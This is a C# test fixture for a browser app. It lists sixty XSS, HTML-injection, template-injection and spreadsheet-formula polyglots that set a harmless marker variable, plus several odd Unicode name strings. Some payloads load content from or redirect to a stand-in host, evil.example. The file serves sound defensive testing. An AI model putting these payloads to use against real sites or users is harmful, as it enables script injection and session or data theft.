namespace Perennial.Browser.House;

/// <summary>
/// Texts that become something else where they are not written as text: in HTML, attributes, addresses, scripts, styles, templates,
/// comments and tables. Each tries to set <c>window.__p41</c>, to put a handler or an address into the page, or to call another host.
/// </summary>
internal static class Polyglots
{
    private const string Handler = "<img src=x onerror=window.__p41=1>";

    /// <summary>One of each kind, sixty in all.</summary>
    public static IReadOnlyList<string> All { get; } =
    [
        "<script>window.__p41=1</script>", "\"><script>window.__p41=1</script>", "'><script>window.__p41=1</script>",
        "</script><script>window.__p41=1</script>", Handler, "\">" + Handler, "'\">" + Handler, "<svg onload=window.__p41=1>",
        "<svg/onload=window.__p41=1//", "\"><svg/onload=window.__p41=1>", "<body onload=window.__p41=1>",
        "<iframe src=javascript:window.__p41=1>", "<iframe srcdoc=\"<script>parent.__p41=1</script>\">", "javascript:window.__p41=1",
        "JaVaScRiPt:window.__p41=1//", "java&#9;script:window.__p41=1", "data:text/html,<script>window.__p41=1</script>",
        "\" onfocus=window.__p41=1 autofocus x=\"", "' onfocus=window.__p41=1 autofocus x='",
        "\" onmouseover=window.__p41=1 style=position:fixed;inset:0 x=\"", "` onmouseover=window.__p41=1 `",
        "<a href=\"javascript:window.__p41=1\">x</a>", "<form action=javascript:window.__p41=1><input type=submit>",
        "<details open ontoggle=window.__p41=1>", "<video><source onerror=window.__p41=1>", "<audio src=x onerror=window.__p41=1>",
        "<input autofocus onfocus=window.__p41=1>", "<select autofocus onfocus=window.__p41=1>",
        "<textarea autofocus onfocus=window.__p41=1>", "<marquee onstart=window.__p41=1>", "<object data=javascript:window.__p41=1>",
        "<embed src=javascript:window.__p41=1>", "<link rel=stylesheet href=//evil.example/x.css>",
        "<style>@import '//evil.example/x.css';</style>", "<style>*{background:url(//evil.example/x)}</style>",
        "<base href=//evil.example/>", "<meta http-equiv=refresh content=\"0;url=//evil.example/\">",
        "<math><mtext></mtext><mglyph><svg><mtext><style>" + Handler, "<!-->" + Handler + "-->", "<![CDATA[" + Handler + "]]>",
        "</title>" + Handler, "</textarea>" + Handler, "</style>" + Handler, "</noscript>" + Handler, "</option></select>" + Handler,
        "\\\";window.__p41=1;//", "';window.__p41=1;//", "${window.__p41=1}", "{{constructor.constructor('window.__p41=1')()}}",
        "#{7*7}<%= 7*7 %>{7*7}", "&lt;script&gt;window.__p41=1&lt;/script&gt;", "&#60;img src=x onerror=window.__p41=1&#62;",
        "%3Cscript%3Ewindow.__p41=1%3C/script%3E", "\\u003cscript\\u003ewindow.__p41=1\\u003c/script\\u003e",
        "+ADw-script+AD4-window.__p41=1+ADw-/script+AD4-", "<scr<script>ipt>window.__p41=1</scr</script>ipt>",
        "<div hx-get=//evil.example hx-trigger=load>x</div>",
        "<div hx-on::load=\"window.__p41=1\" data-hx-on:htmx:load=\"window.__p41=1\">x</div>",
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=window.__p41=1 )//" +
            "</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=window.__p41=1//>",
        "=HYPERLINK(\"//evil.example\",\"x\")",
    ];

    /// <summary>Names that are long, run the other way, or are made of signs of several parts.</summary>
    public static IReadOnlyList<string> Shapes { get; } =
    [
        new('W', 200), string.Concat(Enumerable.Repeat("Ana-Maria ", 20)).Trim(),
        "\u202Eمريم الخطيب\u202C", "יעל \u05D1\u05E8\u05E7", "👩‍👩‍👧‍👦🏳️‍🌈 é̂̃ ﷽", "王小明",
    ];
}
